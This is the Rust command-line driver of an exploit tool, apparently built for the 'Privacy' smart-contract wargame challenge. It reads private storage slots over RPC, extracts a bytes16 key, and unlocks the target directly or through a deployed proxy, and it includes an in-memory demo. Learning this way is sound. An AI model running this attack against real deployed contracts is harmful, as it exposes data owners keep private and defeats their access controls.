use slotbreach::cli::{
    AttackArgs, Cli, Command, DemoArgs, DeployArgs, DumpArgs, LayoutArgs, PeekArgs,
};
use slotbreach::config::ExploitConfig;
use slotbreach::constants::KEY_BYTES;
use slotbreach::exploit::{
    self, deploy_hacker, deploy_target, AttackPlan, DirectUnlock, ProxyUnlock, Unlocker,
};
use slotbreach::layout::{self, solidity, FieldSpec, PackingOrder, SlotLayout};
use slotbreach::onchain::{
    read_all_fields, read_flag, ContractArtifact, InMemoryLedger, RpcLedger, HACKER_CONTRACT,
    PRIVACY_CONTRACT,
};
use slotbreach::output;
use slotbreach::signer::{dev, SignerManager};

use alloy_primitives::Address;
use clap::Parser;
use eyre::{bail, WrapErr};
use std::path::Path;
use std::sync::Arc;
use tracing_subscriber::EnvFilter;

/// Main entry point for slotbreach
#[tokio::main]
async fn main() -> eyre::Result<()> {
    let cli = Cli::parse();
    init_tracing(cli.log_json);

    let config = ExploitConfig::load(cli.config.as_deref())?;

    match cli.command {
        Command::Layout(args) => run_layout(args, &config),
        Command::Peek(args) => run_peek(args, &cli.rpc_url, &config).await,
        Command::Dump(args) => run_dump(args, &cli.rpc_url, &config).await,
        Command::Deploy(args) => run_deploy(args, &cli.rpc_url, &config).await,
        Command::Attack(args) => run_attack(args, &cli.rpc_url, &config).await,
        Command::Demo(args) => run_demo(args, &config).await,
    }
}

/// Human-readable logs on stderr, or JSON lines with `--log-json`.
/// `RUST_LOG` overrides the default `info` level.
fn init_tracing(json: bool) {
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info"));
    let builder = tracing_subscriber::fmt().with_env_filter(filter).with_writer(std::io::stderr);
    if json {
        builder.json().init();
    } else {
        builder.init();
    }
}

/// Resolve the storage section in `file`, or the built-in `Privacy` layout.
fn load_layout(file: Option<&Path>, order: PackingOrder) -> eyre::Result<SlotLayout> {
    let fields: Vec<FieldSpec> = match file {
        Some(path) => {
            let source = std::fs::read_to_string(path)
                .wrap_err_with(|| format!("Failed to read {}", path.display()))?;
            solidity::parse_storage_section(&source)
                .wrap_err_with(|| format!("Failed to parse {}", path.display()))?
        }
        None => SlotLayout::privacy_fields(),
    };
    Ok(layout::resolve_with(&fields, order)?)
}

fn connect(rpc_url: &str, signers: Arc<SignerManager>, config: &ExploitConfig) -> eyre::Result<RpcLedger> {
    RpcLedger::connect(rpc_url, signers, config.rpc_config())
        .wrap_err_with(|| format!("Failed to create RPC client for {rpc_url}"))
}

/// Sender address: from the key when one is given, else the explicit address.
async fn resolve_sender(
    signers: &SignerManager,
    key: Option<&str>,
    address: Option<Address>,
    role: &str,
) -> eyre::Result<Address> {
    match (key, address) {
        (Some(key), address) => {
            let from_key = signers
                .add_signer_from_hex(key)
                .await
                .wrap_err_with(|| format!("Invalid {role} key"))?;
            if let Some(address) = address.filter(|a| *a != from_key) {
                bail!("{role} key belongs to {from_key}, not {address}");
            }
            Ok(from_key)
        }
        (None, Some(address)) => Ok(address),
        (None, None) => bail!("Either --{role} or --{role}-key is required"),
    }
}

/// Warn when more key bytes were requested than `bytes16` can carry.
fn warn_on_truncation(plan: &AttackPlan) {
    if plan.key_range.len() > KEY_BYTES {
        output::print_warning(&format!(
            "{} key bytes requested; only the leading {KEY_BYTES} reach unlock(bytes16)",
            plan.key_range.len()
        ));
    }
}

fn run_layout(args: LayoutArgs, config: &ExploitConfig) -> eyre::Result<()> {
    let layout = load_layout(args.file.as_deref(), args.order.unwrap_or(config.packing_order))?;
    if args.json {
        println!("{}", serde_json::to_string_pretty(&layout)?);
    } else {
        output::print_layout(&layout);
    }
    Ok(())
}

async fn run_peek(args: PeekArgs, rpc_url: &str, config: &ExploitConfig) -> eyre::Result<()> {
    let layout = load_layout(args.file.as_deref(), config.packing_order)?;
    let ledger = connect(rpc_url, Arc::new(SignerManager::new()), config)?;

    let range = match args.range {
        Some(range) => range,
        None => 0..layout.placement(&args.field).map_or(0, |p| p.width),
    };
    let extraction = exploit::peek_field(&ledger, args.target, &layout, &args.field, range).await?;
    output::print_extraction(&args.target, &extraction);
    Ok(())
}

async fn run_dump(args: DumpArgs, rpc_url: &str, config: &ExploitConfig) -> eyre::Result<()> {
    let layout = load_layout(args.file.as_deref(), config.packing_order)?;
    let ledger = connect(rpc_url, Arc::new(SignerManager::new()), config)?;

    let values = read_all_fields(&ledger, args.target, &layout).await?;
    output::print_dump(&args.target, &values);
    Ok(())
}

async fn run_deploy(args: DeployArgs, rpc_url: &str, config: &ExploitConfig) -> eyre::Result<()> {
    let signers = Arc::new(SignerManager::new());
    let owner = resolve_sender(&signers, args.owner_key.as_deref(), args.owner, "owner").await?;
    let ledger = connect(rpc_url, signers, config)?;

    let artifact = ContractArtifact::load(&args.artifact)?;
    let deployed = deploy_target(&ledger, &artifact, owner).await?;
    output::print_deployed(&artifact.name, &deployed.address, &owner);
    for (i, arg) in deployed.constructor_args.iter().enumerate() {
        output::print_secret(i, &arg.to_string());
    }

    if let Some(path) = &args.proxy_artifact {
        let proxy = ContractArtifact::load(path)?;
        let address = deploy_hacker(&ledger, &proxy, owner).await?;
        output::print_deployed(&proxy.name, &address, &owner);
    }
    Ok(())
}

async fn run_attack(args: AttackArgs, rpc_url: &str, config: &ExploitConfig) -> eyre::Result<()> {
    let layout = load_layout(args.file.as_deref(), config.packing_order)?;
    let signers = Arc::new(SignerManager::new());
    let attacker =
        resolve_sender(&signers, args.attacker_key.as_deref(), args.attacker, "attacker").await?;
    let ledger = connect(rpc_url, signers, config)?;

    let mut plan = config.plan(args.target, attacker);
    if let Some(field) = args.field {
        plan.key_field = field;
    }
    if let Some(range) = args.range {
        plan.key_range = range;
    }
    warn_on_truncation(&plan);
    let unlocker: Box<dyn Unlocker> = match args.proxy {
        Some(hacker) => Box::new(ProxyUnlock::new(hacker)),
        None => Box::new(DirectUnlock),
    };

    match exploit::extract_and_attack(&ledger, &layout, &plan, unlocker.as_ref()).await {
        Ok(report) if args.json => println!("{}", serde_json::to_string_pretty(&report)?),
        Ok(report) => output::print_report(&report),
        Err(err) => {
            output::print_attack_failed(&args.target, &err.to_string());
            return Err(err.into());
        }
    }
    Ok(())
}

async fn run_demo(args: DemoArgs, config: &ExploitConfig) -> eyre::Result<()> {
    let owner = dev::dev_address(dev::OWNER_INDEX)?;
    let attacker = dev::dev_address(dev::ATTACKER_INDEX)?;
    let ledger = InMemoryLedger::with_packing_order(config.packing_order);
    let layout = ledger.privacy_layout().clone();

    output::print_info("In-memory ledger, simulated Privacy contract");
    let target = deploy_target(&ledger, &ContractArtifact::named(PRIVACY_CONTRACT), owner).await?;
    output::print_deployed(PRIVACY_CONTRACT, &target.address, &owner);
    for (i, arg) in target.constructor_args.iter().enumerate() {
        output::print_secret(i, &arg.to_string());
    }

    let unlocker: Box<dyn Unlocker> = if args.proxy {
        let hacker =
            deploy_hacker(&ledger, &ContractArtifact::named(HACKER_CONTRACT), attacker).await?;
        output::print_deployed(HACKER_CONTRACT, &hacker, &attacker);
        Box::new(ProxyUnlock::new(hacker))
    } else {
        Box::new(DirectUnlock)
    };

    let mut plan: AttackPlan = config.plan(target.address, attacker);
    if let Some(range) = args.range {
        plan.key_range = range;
    }
    warn_on_truncation(&plan);
    let locked = read_flag(&ledger, target.address, &plan.lock_field).await?;
    output::print_info(&format!("{} = {}", plan.lock_field, locked));

    match exploit::extract_and_attack(&ledger, &layout, &plan, unlocker.as_ref()).await {
        Ok(report) => output::print_report(&report),
        Err(err) => {
            output::print_attack_failed(&target.address, &err.to_string());
            return Err(err.into());
        }
    }

    let stats = ledger.stats().await;
    output::print_info(&format!(
        "{} requests: {} deployments, {} slot reads, {} calls, {} getter reads",
        stats.total(),
        stats.deployments,
        stats.slot_reads,
        stats.calls,
        stats.getter_reads
    ));
    Ok(())
}
